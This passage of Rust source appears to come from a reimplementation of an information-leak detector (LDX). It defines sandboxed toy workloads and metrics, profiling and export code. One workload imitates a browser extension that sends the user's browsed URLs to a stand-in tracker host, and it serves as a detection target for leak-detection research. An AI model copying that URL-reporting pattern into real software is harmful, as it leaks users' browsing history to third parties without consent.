            if (depth == 0 || pieces <= 0) {
                return sign * pieces;
            }
            let best = 0 - 9999;
            for (let m = 1; m <= 3; m = m + 1) {
                let v = 0 - evaluate(pieces - m, depth - 1, 0 - sign);
                if (v > best) { best = v; }
            }
            return best;
        }

        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let fd = open("/data/position.txt", 0);
            let pieces = int(trim(read(fd, 16)));
            close(fd);
            let out = open("/out/best.txt", 1);
            let code = setjmp();
            if (code == 0) {
                let v = evaluate(pieces, 4, 1);
                write(out, "value " + str(v) + " nodes " + str(nodes) + "\n");
            } else {
                write(out, "timeout after " + str(code) + " nodes\n");
            }
            close(out);
        }
    "##;
    Workload {
        name: "minchess",
        stands_for: "458.sjeng",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/position.txt", "9")
            .file("/etc/banner", "minchess\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/position.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}

/// 462.libquantum: amplitude-register transforms.
fn minquantum() -> Workload {
    let source = r##"
        fn main() {
            let fd = open("/data/gates.txt", 0);
            let text = trim(read(fd, 512));
            close(fd);
            let lines = split(text, "\n");
            let reg = array(8, 1);
            for (let g = 0; g < len(lines); g = g + 1) {
                let parts = split(trim(lines[g]), " ");
                let gate = parts[0];
                let target = int(parts[1]) % 8;
                if (gate == "x") {
                    reg = set(reg, target, 0 - reg[target]);
                } else if (gate == "h") {
                    for (let i = 0; i < 8; i = i + 1) {
                        if (i % 2 == target % 2) {
                            reg = set(reg, i, reg[i] * 2);
                        }
                    }
                } else if (gate == "cz") {
                    reg = set(reg, target, reg[target] * reg[(target + 1) % 8]);
                }
            }
            let sum = 0;
            let dump = "";
            for (let i = 0; i < 8; i = i + 1) {
                sum = sum + reg[i] * reg[i];
                dump = dump + str(reg[i]) + " ";
            }
            let out = open("/out/norm.txt", 1);
            write(out, "norm=" + str(sum) + "\n");
            write(out, "reg= " + dump + "\n");
            close(out);
        }
    "##;
    Workload {
        name: "minquantum",
        stands_for: "462.libquantum",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/gates.txt", "x 3\nh 2\ncz 1\nh 5\nx 0\ncz 6\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/gates.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// 464.h264ref: block-based delta encoding of "frames".
fn minh264() -> Workload {
    let source = r##"
        fn encode_row(prevrow, row, out) {
            let line = "";
            for (let i = 0; i < len(row); i = i + 1) {
                let cur = ord(row, i);
                let ref = 0;
                if (i < len(prevrow)) { ref = ord(prevrow, i); }
                let delta = cur - ref;
                line = line + str(delta) + ",";
            }
            write(out, line + "\n");
            return 0;
        }

        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let fd = open("/data/frames.txt", 0);
            let text = trim(read(fd, 2048));
            close(fd);
            let rows = split(text, "\n");
            let out = open("/out/stream.txt", 1);
            let prev = "";
            for (let r = 0; r < len(rows); r = r + 1) {
                encode_row(prev, rows[r], out);
                prev = rows[r];
            }
            close(out);
        }
    "##;
    Workload {
        name: "minh264",
        stands_for: "464.h264ref",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file(
                "/data/frames.txt",
                "abcdabcd\nabddabce\nacddabce\nacddbbce\n",
            )
            .file("/etc/banner", "minh264\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/frames.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}

/// 471.omnetpp: a discrete event loop with indirect handlers.
fn minsim() -> Workload {
    let source = r##"
        global queue_len = 0;
        global dropped = 0;
        global delivered = 0;

        fn ev_arrive(n) {
            if (queue_len + n > 10) { dropped = dropped + n; }
            else { queue_len = queue_len + n; }
            return 0;
        }
        fn ev_depart(n) {
            let take = min(n, queue_len);
            queue_len = queue_len - take;
            delivered = delivered + take;
            return 0;
        }

        fn main() {
            let fd = open("/data/events.txt", 0);
            let text = trim(read(fd, 1024));
            close(fd);
            let lines = split(text, "\n");
            for (let i = 0; i < len(lines); i = i + 1) {
                let parts = split(trim(lines[i]), " ");
                let handler = &ev_depart;
                if (parts[0] == "arrive") { handler = &ev_arrive; }
                handler(int(parts[1]));
            }
            let out = open("/out/sim.txt", 1);
            write(out, "delivered=" + str(delivered) + " dropped=" + str(dropped) + "\n");
            close(out);
        }
    "##;
    Workload {
        name: "minsim",
        stands_for: "471.omnetpp",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file(
                "/data/events.txt",
                "arrive 4\narrive 5\ndepart 3\narrive 6\ndepart 9\narrive 2\ndepart 1\n",
            )
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/events.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// 473.astar: greedy grid pathfinding.
fn minastar() -> Workload {
    let source = r##"
        fn main() {
            let fd = open("/data/grid.txt", 0);
            let text = trim(read(fd, 1024));
            close(fd);
            let rows = split(text, "\n");
            let h = len(rows);
            let w = len(rows[0]);
            let x = 0;
            let y = 0;
            let path = "";
            let steps = 0;
            while ((x < w - 1 || y < h - 1) && steps < 64) {
                steps = steps + 1;
                let right_ok = 0;
                if (x + 1 < w && rows[y][x + 1] != "#") { right_ok = 1; }
                let down_ok = 0;
                if (y + 1 < h && rows[y + 1][x] != "#") { down_ok = 1; }
                if (right_ok == 1 && (x - y <= 0 || down_ok == 0)) {
                    x = x + 1;
                    path = path + "R";
                } else if (down_ok == 1) {
                    y = y + 1;
                    path = path + "D";
                } else {
                    path = path + "!";
                    steps = 64;
                }
            }
            let out = open("/out/path.txt", 1);
            write(out, path + "\n");
            close(out);
        }
    "##;
    Workload {
        name: "minastar",
        stands_for: "473.astar",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/grid.txt", ".....\n.##..\n...#.\n.#...\n.....\n")
            .dir("/out"),
        sources: vec![SourceSpec {
            matcher: ldx_dualex::SourceMatcher::FileRead("/data/grid.txt".into()),
            // The grid has no alphanumeric characters for off-by-one to
            // bump; the mutation moves a wall instead.
            mutation: Mutation::Replace(".....\n.##..\n..####\n.#...\n.....\n".into()),
        }],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// 483.xalancbmk: a recursive tag transformer.
fn minxform() -> Workload {
    let source = r##"
        fn transform(text, out) {
            let i = 0;
            while (i < len(text)) {
                let c = text[i];
                if (c == "<") {
                    let end = i + 1;
                    while (end < len(text) && text[end] != ">") { end = end + 1; }
                    let tag = substr(text, i + 1, end - i - 1);
                    write(out, "[" + upper(tag) + "]");
                    i = end + 1;
                } else {
                    write(out, c);
                    i = i + 1;
                }
            }
            return 0;
        }

        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let fd = open("/data/doc.xml", 0);
            let text = trim(read(fd, 2048));
            close(fd);
            let out = open("/out/doc.out", 1);
            transform(text, out);
            close(out);
        }
    "##;
    Workload {
        name: "minxform",
        stands_for: "483.xalancbmk",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/doc.xml", "<doc>hello <b>world</b> bye</doc>")
            .file("/etc/banner", "minxform\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/doc.xml")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}
