//! The 5 network/system stand-ins (Firefox, lynx, nginx, tnftp, sysstat).
//!
//! These are the information-leak detection targets: secrets flow (or
//! don't) into network sends and local file outputs. Each carries a
//! *benign* second mutation for paper Table 2 — one that changes the
//! executed syscalls (extra lookups, different configuration paths) while
//! leaving every sink payload identical, which is exactly the case
//! TightLip cannot tolerate but LDX must.

use crate::{Suite, Workload};
use ldx_dualex::{Mutation, SinkSpec, SourceMatcher, SourceSpec};
use ldx_vos::{PeerBehavior, VosConfig};
use std::collections::BTreeMap;

pub(crate) fn workloads() -> Vec<Workload> {
    vec![minffox(), minbrowse(), minhttpd(), minftp(), minstat()]
}

/// Firefox: an event-driven "browser" whose extension reports the current
/// URL to a tracker (the ShowIP case study's shape, §8.4).
fn minffox() -> Workload {
    let source = r#"
        global current_url = "";

        fn ext_showip(url) {
            // The extension "displays the IP": it asks a remote service,
            // leaking the browsed URL.
            let t = connect("tracker.example");
            send(t, "lookup " + url);
            let ip = recv(t, 32);
            close(t);
            return ip;
        }

        fn load_page(url) {
            current_url = url;
            let w = connect("web.example");
            send(w, "GET " + url);
            let body = recv(w, 256);
            close(w);
            let ip = ext_showip(url);
            let log = open("/out/history.log", 2);
            write(log, url + " [" + str(len(body)) + " bytes]\n");
            close(log);
            return 0;
        }

        fn ev_theme(arg) {
            // UI work handled by the master only in real LDX; here it is a
            // harmless config consultation.
            let fd = open("/etc/theme.cfg", 0);
            let theme = trim(read(fd, 16));
            close(fd);
            if (theme == "dark") {
                write(2, "theme: dark\n");
            } else {
                write(2, "theme: light\n");
                write(2, "contrast: normal\n");
            }
            return 0;
        }

        fn main() {
            let fd = open("/etc/events.txt", 0);
            let lines = split(trim(read(fd, 1024)), "\n");
            close(fd);
            for (let i = 0; i < len(lines); i = i + 1) {
                let parts = split(trim(lines[i]), " ");
                if (parts[0] == "load") { load_page(parts[1]); }
                if (parts[0] == "theme") { ev_theme(0); }
            }
        }
    "#;
    let mut web = BTreeMap::new();
    web.insert(
        "GET /inbox".to_string(),
        "your private inbox page".to_string(),
    );
    web.insert("GET /news".to_string(), "public news page".to_string());
    let mut tracker = BTreeMap::new();
    tracker.insert("lookup /inbox".to_string(), "10.0.0.5".to_string());
    tracker.insert("lookup /news".to_string(), "10.0.0.9".to_string());
    Workload {
        name: "minffox",
        stands_for: "Firefox (+ShowIP)",
        suite: Suite::NetSys,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/etc/events.txt", "theme x\nload /inbox\nload /news\n")
            .file("/etc/theme.cfg", "dark")
            .peer("web.example", PeerBehavior::Respond(web))
            .peer("tracker.example", PeerBehavior::Respond(tracker))
            .dir("/out"),
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/etc/events.txt".into()),
            mutation: Mutation::Replace("theme x\nload /news\nload /news\n".into()),
        }],
        sinks: SinkSpec::NetworkOut,
        benign_sources: Some(vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/etc/theme.cfg".into()),
            mutation: Mutation::Replace("light".into()),
        }]),
        expect_leak: true,
    }
}

/// lynx: fetch, render, and archive a page.
fn minbrowse() -> Workload {
    let source = r#"
        fn render(body, out) {
            let i = 0;
            let text = "";
            let links = 0;
            while (i < len(body)) {
                if (body[i] == "<") {
                    let end = i;
                    while (end < len(body) && body[end] != ">") { end = end + 1; }
                    let tag = substr(body, i + 1, end - i - 1);
                    if (find(tag, "a ") == 0) { links = links + 1; }
                    i = end + 1;
                } else {
                    text = text + body[i];
                    i = i + 1;
                }
            }
            write(out, text + "\n[" + str(links) + " links]\n");
            return 0;
        }

        fn main() {
            let cfg = open("/etc/lynxrc", 0);
            let dns = trim(read(cfg, 16));
            close(cfg);
            if (dns == "remote") {
                // Remote DNS resolution: extra network round trips that do
                // not influence the rendered page.
                let r = connect("dns.example");
                send(r, "resolve site.example");
                let addr = recv(r, 16);
                close(r);
                write(2, "resolved: " + addr + "\n");
            }
            let w = connect("site.example");
            send(w, "GET /");
            let body = recv(w, 512);
            close(w);
            let out = open("/out/page.txt", 1);
            render(body, out);
            close(out);
        }
    "#;
    let mut site = BTreeMap::new();
    site.insert(
        "GET /".to_string(),
        "<h1>welcome</h1>visit <a x>here</a> and <a y>there</a> now".to_string(),
    );
    let mut dns = BTreeMap::new();
    dns.insert("resolve site.example".to_string(), "10.1.2.3".to_string());
    Workload {
        name: "minbrowse",
        stands_for: "Lynx",
        suite: Suite::NetSys,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/etc/lynxrc", "local")
            .peer("site.example", PeerBehavior::Respond(site))
            .peer("dns.example", PeerBehavior::Respond(dns))
            .dir("/out"),
        sources: vec![SourceSpec::net("site.example")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/etc/lynxrc".into()),
            mutation: Mutation::Replace("remote".into()),
        }]),
        expect_leak: true,
    }
}

/// nginx: serve scripted clients from a document root.
fn minhttpd() -> Workload {
    let source = r#"
        fn serve(conn) {
            let req = trim(recv(conn, 64));
            if (find(req, "GET ") != 0) {
                send(conn, "400 bad request");
                return 0;
            }
            let path = substr(req, 4, 60);
            let fd = open("/www" + path, 0);
            if (fd < 0) {
                send(conn, "404 not found");
                return 0;
            }
            let body = read(fd, 512);
            close(fd);
            send(conn, "200 " + body);
            return 0;
        }

        fn main() {
            let cfg = open("/etc/httpd.conf", 0);
            let keepalive = trim(read(cfg, 16));
            close(cfg);
            if (keepalive == "on") {
                // Idle-timeout bookkeeping: harmless extra syscalls.
                let t1 = time();
                let t2 = time();
                write(2, "keepalive window " + str(t2 - t1) + "\n");
            }
            let served = 0;
            let conn = accept(8080);
            while (conn >= 0) {
                serve(conn);
                close(conn);
                served = served + 1;
                conn = accept(8080);
            }
            let log = open("/out/access.log", 1);
            write(log, "served " + str(served) + "\n");
            close(log);
        }
    "#;
    Workload {
        name: "minhttpd",
        stands_for: "Nginx",
        suite: Suite::NetSys,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/etc/httpd.conf", "off")
            .file("/www/index.html", "hello world, this is the index")
            .file("/www/admin.html", "TOP SECRET admin console")
            .listen(
                8080,
                vec![
                    "GET /index.html".into(),
                    "GET /admin.html".into(),
                    "GET /index.html".into(),
                ],
            )
            .dir("/out"),
        sources: vec![SourceSpec::file("/www/admin.html")],
        sinks: SinkSpec::NetworkOut,
        benign_sources: Some(vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/etc/httpd.conf".into()),
            mutation: Mutation::Replace("on".into()),
        }]),
        expect_leak: true,
    }
}

/// tnftp: a scripted file-transfer session.
fn minftp() -> Workload {
    let source = r#"
        fn main() {
            let cfg = open("/etc/ftprc", 0);
            let passive = trim(read(cfg, 16));
            close(cfg);
            let ctrl = connect("ftp.example");
            if (passive == "yes") {
                send(ctrl, "PASV");
                let port = recv(ctrl, 16);
                write(2, "passive port " + port + "\n");
            }
            let sfd = open("/etc/script.ftp", 0);
            let cmds = split(trim(read(sfd, 512)), "\n");
            close(sfd);
            for (let i = 0; i < len(cmds); i = i + 1) {
                let cmd = trim(cmds[i]);
                if (find(cmd, "get ") == 0) {
                    send(ctrl, "RETR " + substr(cmd, 4, 32));
                    let data = recv(ctrl, 256);
                    let out = open("/out/" + substr(cmd, 4, 32), 1);
                    write(out, data);
                    close(out);
                } else if (cmd == "pwd") {
                    send(ctrl, "PWD");
                    write(2, recv(ctrl, 32) + "\n");
                }
            }
            close(ctrl);
        }
    "#;
    let mut ftp = BTreeMap::new();
    ftp.insert("PASV".to_string(), "22731".to_string());
    ftp.insert(
        "RETR report.txt".to_string(),
        "Q3 numbers: 1932 units".to_string(),
    );
    ftp.insert("PWD".to_string(), "/home/user".to_string());
    Workload {
        name: "minftp",
        stands_for: "Tnftp",
        suite: Suite::NetSys,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/etc/ftprc", "no")
            .file("/etc/script.ftp", "pwd\nget report.txt\n")
            .peer("ftp.example", PeerBehavior::Respond(ftp))
            .dir("/out"),
        sources: vec![SourceSpec::net("ftp.example")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/etc/ftprc".into()),
            mutation: Mutation::Replace("yes".into()),
        }]),
        expect_leak: true,
    }
}

/// sysstat: aggregate kernel counters into a report.
fn minstat() -> Workload {
    let source = r#"
        fn read_counter(path) {
            let fd = open(path, 0);
            if (fd < 0) { return 0; }
            let v = int(trim(read(fd, 32)));
            close(fd);
            return v;
        }

        fn main() {
            let verbose_fd = open("/etc/sysstat.conf", 0);
            let verbose = trim(read(verbose_fd, 8));
            close(verbose_fd);
            let user = read_counter("/proc/user");
            let sys = read_counter("/proc/sys");
            let idle = read_counter("/proc/idle");
            let total = user + sys + idle;
            if (total == 0) { total = 1; }
            if (verbose == "1") {
                write(2, "raw: " + str(user) + "/" + str(sys) + "/" + str(idle) + "\n");
                write(2, "total: " + str(total) + "\n");
            }
            let out = open("/out/report.txt", 1);
            write(out, "cpu user " + str(user * 100 / total) + "%\n");
            write(out, "cpu sys " + str(sys * 100 / total) + "%\n");
            close(out);
        }
    "#;
    Workload {
        name: "minstat",
        stands_for: "Sysstat",
        suite: Suite::NetSys,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/etc/sysstat.conf", "0")
            .file("/proc/user", "420")
            .file("/proc/sys", "120")
            .file("/proc/idle", "460")
            .dir("/out"),
        sources: vec![SourceSpec::file("/proc/user")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/etc/sysstat.conf".into()),
            mutation: Mutation::Replace("1".into()),
        }]),
        expect_leak: true,
    }
}
