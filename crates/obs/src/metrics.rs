//! The process-wide metrics registry: named atomic counters and
//! fixed-bucket (power-of-two) histograms.
//!
//! Names are `&'static str` in dotted-namespace form (`cache.hits`,
//! `batch.steals`, `runtime.barrier_wait_ns`). Registration is implicit
//! on first use; [`ensure_counters`] pre-registers a key set so exports
//! always contain the expected names even when their values are zero.

use crate::metrics_enabled;
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Histogram bucket count: bucket `i` holds values `v` with
/// `bit_width(v) == i`, i.e. upper bound `2^i - 1`; the last bucket
/// absorbs everything larger.
pub(crate) const BUCKETS: usize = 40;

/// Index of the log2 bucket for `v`.
pub(crate) fn bucket_index(v: u64) -> usize {
    ((u64::BITS - v.leading_zeros()) as usize).min(BUCKETS - 1)
}

/// Inclusive upper bound of bucket `i` (`u64::MAX` for the last).
pub(crate) fn bucket_bound(i: usize) -> u64 {
    if i >= BUCKETS - 1 {
        u64::MAX
    } else {
        (1u64 << i) - 1
    }
}

#[derive(Debug)]
struct Histogram {
    buckets: [AtomicU64; BUCKETS],
    count: AtomicU64,
    sum: AtomicU64,
    max: AtomicU64,
}

impl Default for Histogram {
    fn default() -> Self {
        Self {
            buckets: std::array::from_fn(|_| AtomicU64::new(0)),
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
            max: AtomicU64::new(0),
        }
    }
}

#[derive(Default)]
struct Registry {
    counters: BTreeMap<&'static str, Arc<AtomicU64>>,
    histograms: BTreeMap<&'static str, Arc<Histogram>>,
}

static REGISTRY: Mutex<Option<Registry>> = Mutex::new(None);

fn with_registry<R>(f: impl FnOnce(&mut Registry) -> R) -> R {
    let mut guard = REGISTRY
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    f(guard.get_or_insert_with(Registry::default))
}

pub(crate) fn clear() {
    let mut guard = REGISTRY
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    *guard = None;
}

fn counter(name: &'static str) -> Arc<AtomicU64> {
    with_registry(|r| Arc::clone(r.counters.entry(name).or_default()))
}

fn histogram(name: &'static str) -> Arc<Histogram> {
    with_registry(|r| Arc::clone(r.histograms.entry(name).or_default()))
}

/// Adds `n` to the named counter (no-op while metrics are disabled).
pub fn counter_add(name: &'static str, n: u64) {
    if !metrics_enabled() {
        return;
    }
    counter(name).fetch_add(n, Ordering::Relaxed);
}

/// Raises the named counter to at least `v` (gauge-style maximum; used
/// for pool sizes and high-water marks).
pub fn counter_max(name: &'static str, v: u64) {
    if !metrics_enabled() {
        return;
    }
    counter(name).fetch_max(v, Ordering::Relaxed);
}

/// The current value of a counter (0 when never touched).
pub fn counter_value(name: &'static str) -> u64 {
    with_registry(|r| {
        r.counters
            .get(name)
            .map_or(0, |c| c.load(Ordering::Relaxed))
    })
}

/// Records one observation into the named histogram (no-op while
/// metrics are disabled).
pub fn histogram_record(name: &'static str, value: u64) {
    if !metrics_enabled() {
        return;
    }
    let h = histogram(name);
    h.buckets[bucket_index(value)].fetch_add(1, Ordering::Relaxed);
    h.count.fetch_add(1, Ordering::Relaxed);
    h.sum.fetch_add(value, Ordering::Relaxed);
    h.max.fetch_max(value, Ordering::Relaxed);
}

/// Pre-registers counters so exports always carry these keys.
pub fn ensure_counters(names: &[&'static str]) {
    with_registry(|r| {
        for name in names {
            r.counters.entry(name).or_default();
        }
    });
}

/// A counter's exported view.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CounterSnapshot {
    /// Dotted metric name.
    pub name: &'static str,
    /// Current value.
    pub value: u64,
}

/// A histogram's exported view.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HistogramSnapshot {
    /// Dotted metric name.
    pub name: &'static str,
    /// Total observations.
    pub count: u64,
    /// Sum of observed values.
    pub sum: u64,
    /// Largest observed value.
    pub max: u64,
    /// Non-empty buckets as `(inclusive upper bound, count)`.
    pub buckets: Vec<(u64, u64)>,
}

/// Everything the registry currently holds, names sorted.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct MetricsSnapshot {
    /// All counters (including pre-registered zeros).
    pub counters: Vec<CounterSnapshot>,
    /// All histograms.
    pub histograms: Vec<HistogramSnapshot>,
}

/// Snapshots the whole registry.
pub fn metrics_snapshot() -> MetricsSnapshot {
    with_registry(|r| MetricsSnapshot {
        counters: r
            .counters
            .iter()
            .map(|(name, c)| CounterSnapshot {
                name,
                value: c.load(Ordering::Relaxed),
            })
            .collect(),
        histograms: r
            .histograms
            .iter()
            .map(|(name, h)| HistogramSnapshot {
                name,
                count: h.count.load(Ordering::Relaxed),
                sum: h.sum.load(Ordering::Relaxed),
                max: h.max.load(Ordering::Relaxed),
                buckets: h
                    .buckets
                    .iter()
                    .enumerate()
                    .filter_map(|(i, b)| {
                        let c = b.load(Ordering::Relaxed);
                        (c > 0).then(|| (bucket_bound(i), c))
                    })
                    .collect(),
            })
            .collect(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{enable_metrics, reset, testutil};

    #[test]
    fn bucket_indexing_is_log2() {
        assert_eq!(bucket_index(0), 0);
        assert_eq!(bucket_index(1), 1);
        assert_eq!(bucket_index(2), 2);
        assert_eq!(bucket_index(3), 2);
        assert_eq!(bucket_index(1024), 11);
        assert_eq!(bucket_index(u64::MAX), BUCKETS - 1);
        assert_eq!(bucket_bound(1), 1);
        assert_eq!(bucket_bound(2), 3);
        assert_eq!(bucket_bound(BUCKETS - 1), u64::MAX);
    }

    #[test]
    fn counters_and_histograms_aggregate() {
        let _g = testutil::lock();
        reset();
        enable_metrics();
        counter_add("t.a", 2);
        counter_add("t.a", 3);
        counter_max("t.w", 4);
        counter_max("t.w", 2);
        histogram_record("t.h", 3);
        histogram_record("t.h", 1000);
        assert_eq!(counter_value("t.a"), 5);
        assert_eq!(counter_value("t.w"), 4);
        let snap = metrics_snapshot();
        let h = &snap.histograms[0];
        assert_eq!(h.count, 2);
        assert_eq!(h.sum, 1003);
        assert_eq!(h.max, 1000);
        assert_eq!(h.buckets.len(), 2);
        reset();
    }

    #[test]
    fn ensure_counters_exports_zeros() {
        let _g = testutil::lock();
        reset();
        enable_metrics();
        ensure_counters(&["pre.one", "pre.two"]);
        let snap = metrics_snapshot();
        let names: Vec<&str> = snap.counters.iter().map(|c| c.name).collect();
        assert!(names.contains(&"pre.one") && names.contains(&"pre.two"));
        assert!(snap.counters.iter().all(|c| c.value == 0));
        reset();
    }

    #[test]
    fn concurrent_adds_do_not_lose_updates() {
        let _g = testutil::lock();
        reset();
        enable_metrics();
        std::thread::scope(|s| {
            for _ in 0..8 {
                s.spawn(|| {
                    for _ in 0..1000 {
                        counter_add("t.race", 1);
                        histogram_record("t.race_h", 7);
                    }
                });
            }
        });
        assert_eq!(counter_value("t.race"), 8000);
        let snap = metrics_snapshot();
        let h = snap
            .histograms
            .iter()
            .find(|h| h.name == "t.race_h")
            .unwrap();
        assert_eq!(h.count, 8000);
        reset();
    }
}
