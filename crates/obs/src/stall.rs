//! The alignment-stall profiler.
//!
//! Every time the slave blocks on a progress-counter barrier (waiting
//! for the master's counters to catch up, or for an outcome slot to be
//! published), the dual-execution layer reports the wait here, keyed by
//! the barrier's static site (`f<func>:s<site>`). The profiler
//! aggregates per barrier: how often it stalled, for how long in total
//! and at worst, and the progress-counter delta observed at release —
//! i.e. how far apart the two executions were when the slave resumed.
//! This pinpoints exactly where the paper's alignment scheme costs
//! wall-clock.

use crate::metrics::{bucket_bound, bucket_index, BUCKETS};
use crate::profiling_enabled;
use std::collections::BTreeMap;
use std::sync::Mutex;

#[derive(Debug, Clone)]
struct StallAgg {
    count: u64,
    total_wait_ns: u64,
    max_wait_ns: u64,
    total_delta: u64,
    /// Log2 buckets over wait nanoseconds.
    wait_buckets: [u64; BUCKETS],
}

impl Default for StallAgg {
    fn default() -> Self {
        Self {
            count: 0,
            total_wait_ns: 0,
            max_wait_ns: 0,
            total_delta: 0,
            wait_buckets: [0; BUCKETS],
        }
    }
}

static STALLS: Mutex<Option<BTreeMap<String, StallAgg>>> = Mutex::new(None);

fn with_stalls<R>(f: impl FnOnce(&mut BTreeMap<String, StallAgg>) -> R) -> R {
    let mut guard = STALLS
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    f(guard.get_or_insert_with(BTreeMap::new))
}

pub(crate) fn clear() {
    let mut guard = STALLS
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    *guard = None;
}

/// Records one stall at `barrier`: the slave blocked for `wait_ns` and
/// observed a progress-counter delta of `delta` when released. No-op
/// while profiling is disabled.
pub fn stall_record(barrier: &str, wait_ns: u64, delta: u64) {
    if !profiling_enabled() {
        return;
    }
    with_stalls(|m| {
        let agg = match m.get_mut(barrier) {
            Some(agg) => agg,
            None => m.entry(barrier.to_string()).or_default(),
        };
        agg.count += 1;
        agg.total_wait_ns += wait_ns;
        agg.max_wait_ns = agg.max_wait_ns.max(wait_ns);
        agg.total_delta += delta;
        agg.wait_buckets[bucket_index(wait_ns)] += 1;
    });
}

/// One barrier's aggregated stall profile.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StallSnapshot {
    /// Barrier site key, `f<func>:s<site>`.
    pub barrier: String,
    /// Number of stalls recorded.
    pub count: u64,
    /// Total nanoseconds the slave spent blocked here.
    pub total_wait_ns: u64,
    /// Longest single stall.
    pub max_wait_ns: u64,
    /// Sum of the progress-counter deltas observed at release.
    pub total_delta: u64,
    /// Non-empty wait-time buckets as `(inclusive upper bound ns, count)`.
    pub wait_buckets: Vec<(u64, u64)>,
}

/// All barriers' profiles, sorted by barrier key.
pub fn stalls_snapshot() -> Vec<StallSnapshot> {
    with_stalls(|m| {
        m.iter()
            .map(|(barrier, agg)| StallSnapshot {
                barrier: barrier.clone(),
                count: agg.count,
                total_wait_ns: agg.total_wait_ns,
                max_wait_ns: agg.max_wait_ns,
                total_delta: agg.total_delta,
                wait_buckets: agg
                    .wait_buckets
                    .iter()
                    .enumerate()
                    .filter(|&(_, &c)| c > 0)
                    .map(|(i, &c)| (bucket_bound(i), c))
                    .collect(),
            })
            .collect()
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{enable_profiling, reset, testutil};

    #[test]
    fn stalls_aggregate_per_barrier() {
        let _g = testutil::lock();
        reset();
        enable_profiling();
        stall_record("f0:s3", 100, 2);
        stall_record("f0:s3", 300, 4);
        stall_record("f1:s7", 50, 1);
        let snaps = stalls_snapshot();
        assert_eq!(snaps.len(), 2);
        let a = &snaps[0];
        assert_eq!(a.barrier, "f0:s3");
        assert_eq!(a.count, 2);
        assert_eq!(a.total_wait_ns, 400);
        assert_eq!(a.max_wait_ns, 300);
        assert_eq!(a.total_delta, 6);
        assert_eq!(a.wait_buckets.iter().map(|&(_, c)| c).sum::<u64>(), 2);
        assert_eq!(snaps[1].barrier, "f1:s7");
        reset();
    }

    #[test]
    fn disabled_profiler_records_nothing() {
        let _g = testutil::lock();
        reset();
        stall_record("f0:s0", 10, 1);
        assert!(stalls_snapshot().is_empty());
    }
}
