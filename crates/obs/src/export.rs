//! Exporters: Chrome `trace_event` JSON (loadable in `chrome://tracing`
//! and Perfetto) and a flat JSON metrics dump. Hand-rolled serialization
//! keeps the crate zero-dep; the formats are small and fixed.

use crate::metrics::metrics_snapshot;
use crate::stall::stalls_snapshot;
use crate::trace::{trace_dropped, trace_snapshot, TraceEventSnapshot};
use std::fmt::Write as _;
use std::io;
use std::path::Path;

/// Escapes `s` into a JSON string literal (with quotes).
fn json_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Microseconds with nanosecond precision, as the trace_event `ts`/`dur`
/// fields expect.
fn micros(ns: u64) -> String {
    format!("{}.{:03}", ns / 1000, ns % 1000)
}

fn event_json(ev: &TraceEventSnapshot) -> String {
    let mut out = String::new();
    let ph = match ev.flow {
        Some((_, true)) => "s",
        Some((_, false)) => "f",
